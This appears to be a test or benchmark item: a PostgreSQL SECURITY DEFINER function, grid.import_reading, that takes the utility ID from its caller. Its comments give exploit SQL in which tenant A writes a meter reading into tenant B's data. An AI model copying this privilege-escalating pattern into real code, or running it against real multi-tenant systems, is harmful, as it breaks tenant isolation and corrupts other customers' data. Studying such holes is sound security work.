-- Tenant A writes readings for B: the import takes the utility from its caller and runs as the owner.
-- about: import_reading
-- as: hf_energy_app
-- exploit: SET app.utility_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT 'imported' || grid.import_reading('bbbbbbbb-0000-4000-8000-000000000000',
-- exploit: 'bbbbbbbb-0000-4000-8000-000000000001', '2026-01-05', 9);
-- shows: imported 9
CREATE FUNCTION grid.import_reading(utility uuid, meter uuid, at timestamptz, value numeric) RETURNS text
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
  INSERT INTO grid.readings VALUES (utility, meter, at, value, 'import') RETURNING ' ' || kwh
$$;
